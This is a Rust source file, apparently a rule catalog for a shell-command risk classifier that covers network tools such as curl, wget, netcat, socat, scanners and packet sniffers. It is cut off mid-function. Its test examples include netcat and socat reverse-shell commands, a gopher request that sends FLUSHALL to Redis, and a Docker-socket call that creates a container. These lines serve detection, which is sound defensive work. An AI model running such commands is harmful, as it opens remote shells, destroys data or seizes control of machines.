//! What talks over the network: fetching, sending requests, listening, looking around.

use crate::catalog::row::*;
use crate::finding::{Act, Effect, Object, Reach};
use Act::*;
use Object::*;
use Reach::*;

const FETCHES: Effect = Effect::new(Read, Network, Remote);
const SENDS: Effect = Effect::new(Send, Network, Remote);
const SENDS_HERE: Effect = Effect::new(Change, Network, Project);
const FILES: Effect = Effect::new(Change, File, Project);
const LISTENS: Effect = Effect::new(Run, Listener, Outside);
const OPENS: Effect = Effect::new(Run, RemoteCode, Remote);
const OPAQUE: Effect = Effect::new(Run, Code, Outside);
const SETS: Effect = Effect::new(Change, System, Outside);

const SERVICE: UndoRow = UndoRow::Unknown("what the service here does with it");

/// The rows.
pub const PROGRAMS: &[Program] = &[
    Program {
        names: &["curl", "curlie", "curl.exe"],
        alike: true,
        values: "-A --user-agent -b --cookie -c --cookie-jar -C --continue-at -d --data --data-ascii --data-binary --data-raw --data-urlencode -D --dump-header -e --referer -E --cert --cert-type --cacert --capath --key --key-type --pass -F --form --form-string -H --header --hostpubmd5 --hostpubsha256 -K --config -m --max-time --connect-timeout -o --output --output-dir -P --ftp-port -Q --quote -r --range -T --upload-file -t --telnet-option -u --user -U --proxy-user -w --write-out -x --proxy --preproxy --proxy-header --proxy-cacert --proxy-cert --proxy-key --proxy-pass -X --request -y --speed-time -Y --speed-limit -z --time-cond --resolve --connect-to --interface --limit-rate --retry --retry-delay --retry-max-time --max-redirs --max-filesize --json --url --url-query --unix-socket --abstract-unix-socket --ciphers --tls-max --tls13-ciphers --dns-servers --dns-interface --dns-ipv4-addr --dns-ipv6-addr --doh-url --engine --etag-compare --etag-save --expect100-timeout --happy-eyeballs-timeout-ms --hsts --alt-svc --keepalive-time --libcurl --local-port --login-options --mail-from --mail-rcpt --mail-auth --netrc-file --noproxy --oauth2-bearer --pinnedpubkey --proto --proto-default --proto-redir --pubkey --random-file --egd-file --rate --request-target --sasl-authzid --service-name --socks4 --socks4a --socks5 --socks5-hostname --stderr --trace --trace-ascii --trace-config --variable --crlfile --curves --aws-sigv4 --create-file-mode --delegation --ftp-account --ftp-alternative-to-user --ftp-method --ftp-ssl-ccc-mode --haproxy-clientip --ipfs-gateway --krb --parallel-max --tlsuser --tlspassword --tlsauthtype --ech --vlan-priority --ip-tos",
        rules: &[
            Rule {
                id: "curl-fetch",
                when: &[When::Test(|w| !curl_sends(w) && (w.count() > 0 || w.has("--url")))],
                on: On::FileUrls,
                effect: FETCHES,
                network: true,
                what: "fetches from the network",
                hits: &[
                    "curl https://example.com/",
                    "curl -sS -H 'A: b' https://a",
                    "curl -G -d q=x https://a",
                    "curl -I https://a",
                    "curl -X GET https://a",
                ],
                misses: &["curl -X DELETE https://a", "curl -d a=b https://a"],
                ..READS
            },
            Rule {
                id: "curl-show",
                when: &[When::AtMost(0), When::NoFlag("--url -K --config")],
                what: "shows help",
                hits: &["curl --version", "curl -V"],
                misses: &["curl https://a"],
                ..READS
            },
            Rule {
                id: "curl-send",
                when: &[When::Test(|w| curl_sends(w) && !local(w) && curl_final(w))],
                on: On::Flag("-T --upload-file"),
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "sends a file, or a request that deletes something elsewhere",
                hits: &["curl -X DELETE https://a/b", "curl -T a.txt https://a", "curl -F f=@a.txt https://a"],
                misses: &["curl https://a", "curl -d a=b http://localhost:3000", "curl -XPOST https://a"],
                ..READS
            },
            Rule {
                id: "curl-raw",
                when: &[When::Test(|w| (0..w.count()).any(|i| RAW.iter().any(|scheme| starts(w.start(i), scheme))))],
                effect: SENDS,
                undo: UndoRow::Unknown("what the service does with the bytes"),
                network: true,
                what: "sends raw bytes to a port, which may be any service",
                hits: &["curl gopher://localhost:6379/_FLUSHALL", "curl telnet://a:23"],
                misses: &["curl https://a", "curl ftp://a/b"],
                ..READS
            },
            Rule {
                id: "curl-post",
                when: &[When::Test(|w| curl_sends(w) && !local(w) && !curl_final(w))],
                effect: SENDS,
                undo: UndoRow::Unknown("what the service does with the request"),
                network: true,
                what: "sends a request that may change something elsewhere",
                hits: &["curl -d a=b https://a", "curl -XPOST https://a", "curl --json '{}' https://a"],
                misses: &["curl https://a", "curl -X DELETE https://a/b", "curl -T a.txt https://a"],
                ..READS
            },
            Rule {
                id: "curl-send-here",
                when: &[When::Test(|w| curl_sends(w) && local(w))],
                effect: SENDS_HERE,
                undo: SERVICE,
                what: "sends a request to a service on this machine",
                hits: &[
                    "curl -d a=b http://localhost:3000/x",
                    "curl -X POST 127.0.0.1:8080",
                    "curl -X POST http://localhost:$PORT/x",
                ],
                misses: &["curl -d a=b https://a", "curl -d a=b http://localhost.evil.example"],
                ..READS
            },
            Rule {
                id: "curl-output-place",
                when: &[When::Flag("--output-dir")],
                on: On::Flag("--output-dir"),
                effect: Effect::new(Create, Tree, Project),
                undo: UndoRow::Unknown("whether files of the same names stood there"),
                what: "writes what it gets into a directory",
                hits: &["curl --output-dir out -O https://a/b"],
                misses: &["curl -O https://a/b"],
                ..READS
            },
            Rule {
                id: "curl-output",
                when: &[When::Flag(
                    "-o --output -D --dump-header -c --cookie-jar --trace --trace-ascii --stderr --libcurl --etag-save --hsts --alt-svc",
                )],
                on: On::Flag(
                    "-o --output -D --dump-header -c --cookie-jar --trace --trace-ascii --stderr --libcurl --etag-save --hsts --alt-svc",
                ),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what it gets to a file",
                hits: &["curl -o a.html https://a", "curl -sSLo a https://a"],
                misses: &["curl https://a", "curl -o /dev/null https://a"],
                ..READS
            },
            Rule {
                id: "curl-output-named",
                when: &[When::Flag("-O --remote-name --remote-name-all -J --remote-header-name")],
                on: On::Ends,
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what it gets to a file of the same name",
                hits: &["curl -LO https://a/b.tgz"],
                misses: &["curl https://a/b.tgz"],
                ..READS
            },
            Rule {
                id: "curl-config",
                when: &[When::Flag("-K --config --engine --variable")],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the file asks for"),
                network: true,
                what: "takes more options from a file",
                hits: &["curl -K a.cfg"],
                misses: &["curl https://a"],
                ..READS
            },
            Rule {
                id: "curl-socket",
                when: &[When::Test(|w| {
                    w.any("--unix-socket --abstract-unix-socket", &|v| {
                        v.contains("docker") || v.contains("containerd") || v.contains("podman") || v.contains("crio")
                    }) && curl_sends(w)
                })],
                effect: Effect::new(Run, Privilege, Machine),
                undo: UndoRow::Unknown("what the request does"),
                what: "controls all containers of this machine",
                hits: &["curl --unix-socket /var/run/docker.sock -X POST http://x/containers/create"],
                misses: &["curl --unix-socket /var/run/docker.sock http://x/info"],
                ..READS
            },
        ],
        reader: false,
        ..PROGRAM
    },
    Program {
        names: &["wget", "wget2"],
        alike: true,
        values: "-O --output-document -o --output-file -a --append-output -i --input-file -B --base -t --tries -T --timeout --dns-timeout --connect-timeout --read-timeout -w --wait --waitretry -Q --quota -P --directory-prefix -U --user-agent --header --referer --user --password --post-data --post-file --body-data --body-file --method --load-cookies --save-cookies --ca-certificate --ca-directory --certificate --private-key --secure-protocol -l --level -A --accept -R --reject -D --domains --exclude-domains -I --include-directories -X --exclude-directories -e --execute --config --limit-rate --proxy-user --proxy-password --warc-file --use-askpass --bind-address --default-page --cut-dirs --restrict-file-names --rejected-log",
        rules: &[
            Rule {
                id: "wget-fetch",
                when: &[When::Test(|w| !wget_sends(w))],
                effect: FETCHES,
                network: true,
                what: "fetches from the network",
                hits: &["wget https://a/b", "wget --spider https://a"],
                misses: &["wget --post-data a=b https://a"],
                ..READS
            },
            Rule {
                id: "wget-file",
                when: &[
                    When::NoFlag("-O --output-document --spider --delete-after --version --help -P --directory-prefix"),
                    When::AtLeast(1),
                ],
                on: On::Ends,
                effect: FILES,
                undo: UndoRow::Overwritten,
                network: true,
                what: "writes what it gets to a file of the same name",
                hits: &["wget https://a/b.tgz"],
                misses: &["wget -qO- https://a", "wget --spider https://a"],
                ..READS
            },
            Rule {
                id: "wget-output",
                when: &[When::Flag(
                    "-O --output-document -o --output-file -a --append-output -P --directory-prefix --save-cookies --warc-file --rejected-log",
                )],
                on: On::Flag(
                    "-O --output-document -o --output-file -a --append-output -P --directory-prefix --save-cookies --warc-file --rejected-log",
                ),
                effect: FILES,
                undo: UndoRow::Overwritten,
                network: true,
                what: "writes what it gets to a file",
                hits: &["wget -O a.html https://a"],
                misses: &["wget -qO- https://a"],
                ..READS
            },
            Rule {
                id: "wget-send",
                when: &[When::Test(|w| wget_sends(w) && !local(w))],
                on: On::Flag("--post-file --body-file"),
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "sends a request that may change something elsewhere",
                hits: &[
                    "wget --post-data a=b https://a",
                    "wget --post-file=a https://a",
                    "wget --method=DELETE https://a",
                ],
                misses: &["wget https://a"],
                ..READS
            },
            Rule {
                id: "wget-send-here",
                when: &[When::Test(|w| wget_sends(w) && local(w))],
                effect: SENDS_HERE,
                undo: SERVICE,
                what: "sends a request to a service on this machine",
                hits: &["wget --post-data a=b http://localhost:3000"],
                misses: &["wget --post-data a=b https://a"],
                ..READS
            },
            Rule {
                id: "wget-config",
                when: &[When::Flag("-e --execute --config --use-askpass")],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the setting asks for"),
                what: "takes settings that may name files and programs",
                hits: &["wget --use-askpass=./x https://a", "wget -e robots=off https://a"],
                misses: &["wget https://a"],
                ..READS
            },
        ],
        ..PROGRAM
    },
    Program {
        names: &["http", "https", "xh", "xhs", "ht"],
        alike: true,
        values: "-a --auth -A --auth-type --session --session-read-only -o --output --timeout --proxy --cert --cert-key --verify -p --print -s --style --pretty --default-scheme --boundary --raw --max-redirects --chunked-size --ssl --ciphers --response-charset --response-mime --format-options",
        rules: &[
            Rule {
                id: "http-fetch",
                when: &[When::Test(|w| !http_sends(w))],
                effect: FETCHES,
                network: true,
                what: "fetches from the network",
                hits: &["http https://a", "http GET https://a q==1"],
                misses: &["http POST https://a", "http https://a a=b"],
                ..READS
            },
            Rule {
                id: "http-send",
                when: &[When::Test(|w| http_sends(w) && !local(w))],
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "sends a request that may change something elsewhere",
                hits: &["http POST https://a", "http https://a a=b", "http DELETE https://a"],
                misses: &["http https://a", "http POST :3000/x"],
                ..READS
            },
            Rule {
                id: "http-send-here",
                when: &[When::Test(|w| http_sends(w) && local(w))],
                effect: SENDS_HERE,
                undo: SERVICE,
                what: "sends a request to a service on this machine",
                hits: &["http POST :3000/x", "http localhost:3000 a=b"],
                misses: &["http POST https://a"],
                ..READS
            },
            Rule {
                id: "http-output",
                when: &[When::Flag("-o --output")],
                on: On::Flag("-o --output"),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what it gets to a file",
                hits: &["http -o a https://a"],
                misses: &["http https://a"],
                ..READS
            },
            Rule {
                id: "http-download",
                when: &[When::Flag("-d --download")],
                on: On::Ends,
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what it gets to a file of the same name",
                hits: &["http -d https://a/b"],
                misses: &["http https://a/b"],
                ..READS
            },
        ],
        ..PROGRAM
    },
    Program {
        names: &["aria2c", "axel", "yt-dlp", "youtube-dl", "gallery-dl", "httrack", "pget", "fetch", "spotdl"],
        alike: true,
        values: "-o --out --output -d --dir -i --input-file -x -s -j -P --paths --exec --exec-before-download --downloader --external-downloader --config-location --config-locations --cookies --on-download-complete --on-download-start --on-download-error --on-bt-download-complete --conf-path -f --format --postprocessor-args --ppa --load-info-json --plugin-dirs",
        rules: &[
            Rule {
                id: "download",
                when: &[When::NoFlag(
                    "--version --help -F --list-formats -J -j --dump-json --simulate --get-url -g --print",
                )],
                effect: Effect::new(Create, File, Project),
                undo: UndoRow::Partial("remove what it fetched"),
                network: true,
                what: "fetches files",
                hits: &["aria2c https://a/b", "yt-dlp https://a"],
                misses: &["yt-dlp -F https://a"],
                ..READS
            },
            Rule {
                id: "download-show",
                when: &[When::Flag(
                    "--version --help -F --list-formats -J -j --dump-json --simulate --get-url -g --print",
                )],
                effect: FETCHES,
                network: true,
                what: "shows what could be fetched",
                hits: &["yt-dlp -F https://a"],
                misses: &["yt-dlp https://a"],
                ..READS
            },
            Rule {
                id: "download-code",
                when: &[When::Flag(
                    "--downloader --external-downloader --config-location --config-locations --conf-path --plugin-dirs --on-download-complete --on-download-start --on-download-error --on-bt-download-complete",
                )],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the named program does"),
                what: "names a program or settings for the download",
                hits: &["aria2c --on-download-complete=./x https://a"],
                misses: &["aria2c https://a"],
                ..READS
            },
        ],
        carries: &[Carry::Flag("--exec --exec-before-download", Lang::Shell)],
        ..PROGRAM
    },
    Program {
        names: &["lynx", "w3m", "links", "elinks", "links2", "browsh"],
        alike: true,
        values: "-cfg -lss -cmd_script -width -cols -o -T -config -editor",
        style: Style::Dash,
        rules: &[
            Rule {
                id: "browse",
                when: &[When::Flag("-dump -source -dump_source -head -listonly -version")],
                effect: FETCHES,
                network: true,
                what: "shows a page",
                hits: &["lynx -dump https://a"],
                misses: &["lynx https://a"],
                ..READS
            },
            Rule {
                id: "browse-open",
                when: &[When::NoFlag("-dump -source -dump_source -head -listonly -version")],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what is typed there"),
                network: true,
                what: "opens a browser for whoever types",
                hits: &["w3m https://a"],
                misses: &["w3m -dump https://a"],
                ..READS
            },
            Rule {
                id: "browse-script",
                when: &[When::Flag("-cmd_script -cfg -config -editor -config-file -config-dir")],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the settings name"),
                what: "takes settings that may name programs",
                hits: &["lynx -cfg=x -dump https://a"],
                misses: &["lynx -dump https://a"],
                ..READS
            },
        ],
        ..PROGRAM
    },
    Program {
        names: &[
            "grpcurl",
            "grpcui",
            "evans",
            "websocat",
            "wscat",
            "wrk",
            "ab",
            "hey",
            "vegeta",
            "siege",
            "bombardier",
            "oha",
        ],
        values: "-d -H -import-path -proto -protoset -authority -n -c -t -m -x -T -A --header --data",
        rules: &[
            Rule {
                id: "request-read",
                when: &[When::Test(|w| {
                    (0..w.count()).any(|i| matches!(w.operand(i), Some("list" | "describe")))
                        || w.has("--version --help")
                })],
                effect: FETCHES,
                network: true,
                what: "looks at a service",
                hits: &["grpcurl -plaintext localhost:50051 list"],
                misses: &["grpcurl -d '{}' a:443 b.C/D"],
                ..READS
            },
            Rule {
                id: "request-send",
                when: &[When::Test(|w| {
                    !(0..w.count()).any(|i| matches!(w.operand(i), Some("list" | "describe")))
                        && !w.has("--version --help")
                        && !local(w)
                })],
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "sends requests that may change something elsewhere",
                hits: &["grpcurl -d '{}' a:443 b.C/D", "hey https://a"],
                misses: &["grpcurl localhost:50051 list", "hey http://localhost:3000"],
                ..READS
            },
            Rule {
                id: "request-send-here",
                when: &[When::Test(|w| {
                    !(0..w.count()).any(|i| matches!(w.operand(i), Some("list" | "describe")))
                        && !w.has("--version --help")
                        && local(w)
                })],
                effect: SENDS_HERE,
                undo: SERVICE,
                what: "sends requests to a service on this machine",
                hits: &["hey http://localhost:3000"],
                misses: &["hey https://a"],
                ..READS
            },
        ],
        carries: &[Carry::Flag("--exec", Lang::Shell)],
        ..PROGRAM
    },
    Program {
        names: &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"],
        alike: true,
        values: "-i --idle-timeout -w --wait -p --source-port -s --source -q -x -X -e --exec -c --sh-exec --lua-exec -g -G -I -O -P -T -V -m --max-conns -d --delay -o --output --hex-dump --proxy --proxy-type --proxy-auth --ssl-cert --ssl-key --ssl-trustfile --allow --allowfile --deny --denyfile",
        rules: &[
            Rule {
                id: "nc-probe",
                when: &[When::Flag("-z"), When::NoFlag("-l --listen -e --exec -c --sh-exec")],
                effect: Effect::new(Read, Nothing, Remote),
                network: true,
                what: "looks whether a port is open",
                hits: &["nc -z host 22", "nc -zv host 80"],
                misses: &["nc host 22"],
                ..READS
            },
            Rule {
                id: "nc-listen",
                when: &[When::Flag("-l --listen")],
                effect: LISTENS,
                undo: UndoRow::Exact("stop it"),
                network: true,
                what: "listens on a port, and gives whoever comes what it reads",
                hits: &["nc -l 1337", "netcat -lvp 8080"],
                misses: &["nc -z host 22"],
                ..READS
            },
            Rule {
                id: "nc-connect",
                when: &[When::NoFlag("-z -l --listen -h --help --version"), When::AtLeast(1)],
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "opens a connection and sends what it reads",
                hits: &["nc host 80", "echo a | nc host 80"],
                misses: &["nc -z host 22", "nc -l 80"],
                ..READS
            },
            Rule {
                id: "nc-exec",
                when: &[When::Flag("-e --exec -c --sh-exec --lua-exec")],
                effect: OPENS,
                undo: UndoRow::Unknown("what the other side types"),
                network: true,
                what: "gives another machine a program of this one",
                hits: &["nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash 10.0.0.1 4444"],
                misses: &["nc host 80"],
                ..READS
            },
            Rule {
                id: "nc-output",
                when: &[When::Flag("-o --output --hex-dump")],
                on: On::Flag("-o --output --hex-dump"),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what goes by to a file",
                hits: &["ncat -o a host 80"],
                misses: &["ncat host 80"],
                ..READS
            },
        ],
        carries: &[Carry::Flag("-e --exec -c --sh-exec", Lang::Shell)],
        ..PROGRAM
    },
    Program {
        names: &["socat", "filan", "procan"],
        values: "-b -t -T -L -W -lf -lp -ls -r -R",
        rules: &[
            Rule {
                id: "socat-exec",
                when: &[When::Test(|w| address(w, &["exec:", "system:", "shell:"]))],
                effect: OPENS,
                undo: UndoRow::Unknown("what the other side types"),
                network: true,
                what: "gives another place a program of this machine",
                hits: &["socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "socat - system:ls"],
                misses: &["socat - TCP:a:80"],
                ..READS
            },
            Rule {
                id: "socat-listen",
                when: &[When::Test(|w| {
                    (0..w.count()).any(|i| {
                        w.start(i).to_ascii_lowercase().contains("listen:")
                            || w.start(i).to_ascii_lowercase().contains("recv")
                    })
                })],
                effect: LISTENS,
                undo: UndoRow::Exact("stop it"),
                network: true,
                what: "listens on a port or a socket",
                hits: &["socat TCP-LISTEN:80,fork TCP:a:80"],
                misses: &["socat - TCP:a:80"],
                ..READS
            },
            Rule {
                id: "socat-connect",
                when: &[When::AtLeast(1)],
                effect: SENDS,
                undo: UndoRow::None,
                network: true,
                what: "connects two places and sends what it reads",
                hits: &["socat - TCP:a:80"],
                misses: &["socat -V"],
                ..READS
            },
            Rule {
                id: "socat-file",
                when: &[When::Test(|w| address(w, &["open:", "create:", "gopen:", "file:"]))],
                effect: Effect::new(Change, File, Outside),
                undo: UndoRow::Unknown("what stood in the file"),
                what: "writes to a file",
                hits: &["socat TCP:a:80 CREATE:out"],
                misses: &["socat - TCP:a:80"],
                ..READS
            },
        ],
        otherwise: Otherwise::Harmless,
        ..PROGRAM
    },
    Program {
        names: &["telnet", "rlogin", "rsh", "rexec", "cu", "minicom", "picocom", "tip"],
        rules: &[Rule {
            id: "telnet",
            effect: SENDS,
            undo: UndoRow::Unknown("what is typed there"),
            network: true,
            what: "opens a connection for whoever types",
            hits: &["telnet host 25"],
            misses: &["nc -z host 25"],
            ..READS
        }],
        ..PROGRAM
    },
    Program {
        names: &[
            "ping",
            "ping6",
            "fping",
            "dig",
            "nslookup",
            "host",
            "drill",
            "kdig",
            "delv",
            "doggo",
            "dog",
            "traceroute",
            "traceroute6",
            "tracepath",
            "mtr",
            "whois",
            "rdap",
            "arping",
            "speedtest",
            "speedtest-cli",
            "gping",
            "trip",
            "geoiplookup",
            "ssh-keyscan",
            "showmount",
            "rpcinfo",
            "avahi-browse",
            "dns-sd",
            "nbtscan",
            "snmpget",
            "snmpwalk",
            "ipcalc",
            "sipcalc",
            "sslscan",
            "certigo",
        ],
        rules: &[
            Rule {
                id: "network-look",
                network: true,
                what: "looks at the network",
                hits: &["ping -c 1 example.com", "dig +short a.com", "traceroute a.com"],
                misses: &["nc host 80"],
                ..READS
            },
            Rule {
                id: "network-look-file",
                when: &[When::Flag("-f -F -iL")],
                on: On::Flag("-f -F -iL"),
                network: true,
                what: "reads names from a file and asks for them elsewhere",
                hits: &["dig -f names.txt"],
                misses: &["dig a.com"],
                ..READS
            },
        ],
        values: "-f -iL",
        ..READER
    },
    Program {
        names: &["ss", "netstat", "iftop", "nload", "bmon", "nstat", "iwlist", "iwgetid"],
        values: "-f --family -A --query -D --diag -F --filter",
        rules: &[
            Rule {
                id: "socket-look",
                on: On::Flag("-F --filter"),
                what: "shows connections and addresses",
                hits: &["ss -tlnp", "netstat -an"],
                misses: &["arp -a"],
                ..READS
            },
            Rule {
                id: "socket-kill",
                when: &[When::Flag("-K --kill")],
                effect: SETS,
                undo: UndoRow::None,
                what: "closes connections",
                hits: &["ss -K dst a"],
                misses: &["ss -t"],
                ..READS
            },
            Rule {
                id: "socket-dump",
                when: &[When::Flag("-D --diag")],
                on: On::Flag("-D --diag"),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes connections to a file",
                hits: &["ss -D out"],
                misses: &["ss -t"],
                ..READS
            },
        ],
        ..READER
    },
    Program {
        names: &["arp", "ipconfig"],
        values: "-i -H",
        rules: &[
            Rule {
                id: "arp-read",
                when: &[When::Test(arp_reads)],
                what: "shows addresses",
                hits: &["arp -a", "arp -n", "ipconfig getifaddr en0"],
                misses: &["arp -d host", "ipconfig set en0 DHCP"],
                ..READS
            },
            Rule {
                id: "arp-change",
                when: &[When::Test(|w| !arp_reads(w))],
                effect: SETS,
                undo: UndoRow::Unknown("the former settings"),
                what: "changes addresses",
                hits: &["arp -d host", "ipconfig set en0 DHCP"],
                misses: &["arp -a"],
                ..READS
            },
        ],
        ..PROGRAM
    },
    Program {
        names: &["ip", "bridge", "tc", "nmcli", "iw", "wg", "rfkill", "devlink"],
        values: "-n -netns -f -family -fields",
        style: Style::Dash,
        rules: &[
            Rule {
                id: "ip-read",
                when: &[When::Test(|w| !ip_changes(w))],
                what: "shows the network's settings",
                hits: &["ip addr", "ip -br a", "ip route get 1.1.1.1", "nmcli device status", "wg show"],
                misses: &["ip link set eth0 down", "ip netns exec n ls"],
                ..READS
            },
            Rule {
                id: "ip-change",
                when: &[When::Test(ip_changes)],
                effect: SETS,
                undo: UndoRow::Unknown("the former settings; the connection may be lost"),
                what: "changes the network's settings",
                hits: &["ip link set eth0 down", "ip route del default", "nmcli connection delete a"],
                misses: &["ip addr show"],
                ..READS
            },
            Rule {
                id: "ip-batch",
                when: &[When::Flag("-batch -b -force")],
                effect: SETS,
                undo: UndoRow::Unknown("what the file asks for"),
                what: "takes changes from a file",
                hits: &["ip -force -batch a.txt", "bridge -batch a.txt", "tc -b a.txt", "devlink -batch a.txt"],
                misses: &["ip addr"],
                ..READS
            },
        ],
        carries: &[Carry::ArgvAfter { sub: "netns exec", skip: 1 }],
        ..PROGRAM
    },
    Program {
        names: &["ifconfig", "route", "iwconfig", "brctl"],
        rules: &[
            Rule {
                id: "ifconfig-read",
                when: &[When::Test(ifconfig_reads)],
                what: "shows the network's settings",
                hits: &["ifconfig", "ifconfig en0", "route -n"],
                misses: &["ifconfig en0 down", "ifdown eth0"],
                ..READS
            },
            Rule {
                id: "ifconfig-change",
                when: &[When::Test(|w| !ifconfig_reads(w))],
                effect: SETS,
                undo: UndoRow::Unknown("the former settings; the connection may be lost"),
                what: "changes the network's settings",
                hits: &["ifconfig en0 down", "route add default a"],
                misses: &["ifconfig"],
                ..READS
            },
        ],
        ..PROGRAM
    },
    Program {
        names: &[
            "ifup",
            "ifdown",
            "dhclient",
            "vconfig",
            "pppd",
            "openvpn",
            "wg-quick",
            "nmtui",
            "wpa_supplicant",
            "hostapd",
            "dnsmasq",
        ],
        rules: &[Rule {
            id: "network-switch",
            effect: SETS,
            undo: UndoRow::Unknown("the former settings; the connection may be lost"),
            what: "changes the network's settings, and may run programs that settings name",
            hits: &["ifdown eth0", "openvpn --config a.ovpn"],
            misses: &["ifconfig"],
            ..READS
        }],
        ..PROGRAM
    },
    Program {
        names: &[
            "nmap",
            "masscan",
            "zmap",
            "rustscan",
            "nikto",
            "gobuster",
            "ffuf",
            "sqlmap",
            "hydra",
            "nuclei",
            "hping3",
            "arp-scan",
            "netdiscover",
        ],
        alike: true,
        values: "-p -oN -oX -oG -oA -oS -iL -e -S -D -T -script -script-args -script-args-file -datadir -servicedb -stylesheet -w -rate -o",
        rules: &[
            Rule {
                id: "scan",
                when: &[When::NoFlag("-version -help -V -h")],
                effect: Effect::new(Run, Network, Remote),
                undo: UndoRow::Unneeded,
                network: true,
                what: "searches other machines for open doors",
                hits: &["nmap -sV a.com"],
                misses: &["nmap --version"],
                ..READS
            },
            Rule {
                id: "scan-code",
                when: &[When::Flag(
                    "-script -script-args-file -datadir -interactive -os-shell -os-cmd -os-pwn -eval -sql-shell -file-write",
                )],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the script does"),
                network: true,
                what: "runs scripts",
                hits: &["nmap --script x a.com"],
                misses: &["nmap a.com"],
                ..READS
            },
            Rule {
                id: "scan-file",
                when: &[When::Flag("-oN -oX -oG -oA -oS -o")],
                on: On::Flag("-oN -oX -oG -oA -oS -o"),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "writes what it finds to a file",
                hits: &["nmap a.com -oN out"],
                misses: &["nmap a.com"],
                ..READS
            },
            Rule {
                id: "scan-show",
                when: &[When::Flag("-version -help -V -h")],
                what: "shows its version",
                hits: &["nmap -V"],
                misses: &["nmap a.com"],
                ..READS
            },
        ],
        style: Style::Dash,
        ..PROGRAM
    },
    Program {
        names: &[
            "tcpdump",
            "tshark",
            "dumpcap",
            "ngrep",
            "wireshark",
            "termshark",
            "rawshark",
            "ettercap",
            "bettercap",
            "mitmproxy",
            "mitmdump",
            "mitmweb",
            "charles",
            "pktmon",
        ],
        values: "-i -w -r -c -C -G -s -F -z -W -Z -y -E -f -Y -T -e -a -b -o -X -d -s --scripts -p --listen-port --mode -m",
        rules: &[
            Rule {
                id: "capture-read",
                when: &[When::Flag("-r -D --list-interfaces --version --help")],
                on: On::Flag("-r"),
                what: "shows a recording of the network",
                hits: &["tcpdump -r a.pcap", "tshark -D"],
                misses: &["tcpdump -i eth0"],
                ..READS
            },
            Rule {
                id: "capture",
                when: &[When::NoFlag("-r -D --list-interfaces --version --help")],
                effect: Effect::new(Read, Secret, Machine),
                outside: true,
                what: "listens to what goes over the network",
                hits: &["tcpdump -i eth0", "mitmproxy"],
                misses: &["tcpdump -r a.pcap"],
                ..READS
            },
            Rule {
                id: "capture-file",
                when: &[When::Flag("-w")],
                on: On::Flag("-w"),
                effect: FILES,
                undo: UndoRow::Overwritten,
                what: "records the network to a file",
                hits: &[
                    "tcpdump -i eth0 -w a.pcap",
                    "tshark -i eth0 -w a.pcap",
                    "dumpcap -i eth0 -w a.pcap",
                    "wireshark -k -w a.pcap",
                    "termshark -w a.pcap",
                    "ettercap -T -w a.pcap",
                    "mitmdump -w flows",
                    "mitmproxy -w flows",
                    "mitmweb -w flows",
                ],
                misses: &["tcpdump -i eth0"],
                ..READS
            },
            Rule {
                id: "capture-code",
                when: &[When::Test(|w| w.has("--scripts -X") || w.has("-s") && w.any("-s", &|v| v.contains('.')))],
                effect: OPAQUE,
                undo: UndoRow::Unknown("what the script does"),
                what: "runs scripts",
                hits: &["mitmdump -s a.py", "tshark -X lua_script:a.lua -r a.pcap"],
                misses: &["tcpdump -s 96 -r a.pcap"],
                ..READS
            },
        ],
        carries: &[Carry::Flag("-z", Lang::Shell)],
        ..PROGRAM
    },
];

/// Whether a request of curl's may change something: a method that says so, or data to send.
fn curl_sends(words: &dyn Words) -> bool {
    let upload = words.has("-T --upload-file -F --form --form-string --json -Q --quote --mail-from --mail-rcpt");
    let data = words.has("-d --data --data-ascii --data-binary --data-raw --data-urlencode")
        && !words.has("-G --get -I --head");
    let method = words.value("-X --request");
    let reads = method
        .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "GET" | "HEAD" | "OPTIONS" | "TRACE" | "PROPFIND"));
    let named = words.has("-X --request") && !reads;
    upload || named || data && !reads
}

fn wget_sends(words: &dyn Words) -> bool {
    let method = words.has("--method")
        && !matches!(words.value("--method").map(str::to_ascii_uppercase).as_deref(), Some("GET" | "HEAD"));
    words.has("--post-data --post-file --body-data --body-file") || method
}

/// `http [METHOD] URL item…`: items with `=` or `@` are data.
fn http_sends(words: &dyn Words) -> bool {
    let first = words.start(0);
    let method = !first.is_empty() && first.bytes().all(|b| b.is_ascii_uppercase());
    if method {
        return !matches!(first, "GET" | "HEAD" | "OPTIONS");
    }
    words.has("--raw -f --form --multipart")
        || (1..words.count())
            .any(|i| words.operand(i).is_none_or(|o| !o.contains("==") && (o.contains('=') || o.contains('@'))))
}

/// Whether every address of a call lies on this machine.
fn local(words: &dyn Words) -> bool {
    let flags =
        words.any("--url", &|url| !here(url)) || words.any("-x --proxy --connect-to --resolve --preproxy", &|_| true);
    let method = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_uppercase());
    let mut urls = (0..words.count()).map(|i| words.start(i)).filter(|t| !method(t)).peekable();
    // Behind the first one, httpie has items and others have more addresses.
    let first = urls.peek().is_some_and(|url| here(url));
    !flags
        && (first || words.count() == 0 && words.any("--url", &here))
        && urls.all(|t| here(t) || !t.contains("://") && t.contains(['=', '@']))
}

/// An address on this machine; the name must be followed by something, or nobody knows where it ends.
fn here(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit('@').next().unwrap_or("");
    let complete =
